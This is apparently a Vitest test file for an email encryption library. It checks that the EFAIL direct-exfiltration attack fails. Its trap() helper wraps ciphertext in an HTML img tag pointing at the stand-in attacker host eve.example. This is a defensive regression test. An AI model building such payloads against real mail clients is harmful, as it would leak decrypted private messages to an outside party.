/** EFAIL, direct exfiltration: ciphertext pasted between two pieces of the attacker's HTML must not come out there. */

import { afterAll, beforeAll, expect, it } from 'vitest';
import { Cast, entityOf, letter, mail, multipart, secret, textOf } from './cast.ts';

let cast: Cast;

beforeAll(async () => {
  cast = await Cast.meet();
});

afterAll(() => {
  cast.leave();
});

const fields = ['From: ann@example.org', 'To: bob@example.org', 'Subject: hello'];
const html = (text: string) => `Content-Type: text/html\r\n\r\n${text}`;

async function trap(): Promise<string> {
  const stolen = entityOf(await cast.seal(letter));
  return multipart(fields, html('<img src="https://eve.example/?'), stolen, html('">'));
}

it('an encrypted part beside others stays closed', async () => {
  const reading = await cast.read(await trap());
  expect(textOf(reading)).not.toContain(secret);
  expect(reading.verdict.code).not.toBe('verified');
  expect(reading.encryptions.map(({ covers }) => covers)).toEqual(['part']);
});

it('opened on wish, it is reported as a part, and never verified', async () => {
  const reading = await cast.read(await trap(), { innerParts: true });
  expect(reading.encryptions.map(({ covers }) => covers)).toEqual(['part']);
  expect(reading.signatures.map(({ covers }) => covers)).toEqual(['part']);
  expect(reading.verdict.code).toBe('partly-signed');
});

it('Eve signing and sealing the trap anew does not open it either', async () => {
  const sealedTrap = await cast.seal(Buffer.from(await trap(), 'latin1'), { signers: cast.signer(cast.eve) });
  const reading = await cast.read(sealedTrap);
  expect(textOf(reading)).not.toContain(secret);
  expect(reading.verdict.code).not.toBe('verified');
});

it('the same ciphertext as the message itself still opens', async () => {
  const reading = await cast.read(await cast.seal(mail({ From: 'ann@example.org', To: 'bob@example.org' }, secret)));
  expect(textOf(reading)).toContain(secret);
});
